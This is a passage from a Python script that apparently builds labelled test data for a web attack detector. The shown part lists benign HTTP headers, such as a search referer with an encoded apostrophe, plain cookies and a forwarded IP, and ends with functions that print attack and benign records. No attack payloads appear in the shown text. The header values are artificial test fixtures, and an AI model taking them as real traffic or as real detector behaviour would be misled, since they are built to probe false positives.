    ("Referer", "https://app.example.com/admin/users/search?q=o%27neil&page=2"),
    ("Referer", "https://docs.projectdiscovery.io/templates/introduction"),
    ("X-Api-Version", "2024-06-01"),
    ("X-Request-Id", "ci-nightly-dast-412:step-3"),
    ("Accept-Language", "pt-PT,pt;q=0.9,en-US;q=0.8,en;q=0.7"),
    ("Cookie", "session=abc123; theme=dark; tz=Europe%2FLisbon"),
    ("Cookie", "session=abc123; last_search=php%20developer; page_size=25"),
    ("If-Modified-Since", "Wed, 12 Jun 2024 08:30:00 GMT"),
    ("X-Forwarded-For", "203.0.113.45"),
    ("Cache-Control", "no-cache"),
]


def benign() -> Iterator[dict[str, Any]]:
    return SET.benign(NAME, CHAT, SEARCHES, URLS, PROSE, PROFILES, UPLOAD_NAMES, BENIGN_HEADERS)


if __name__ == "__main__":
    print_records(attacks(), benign())
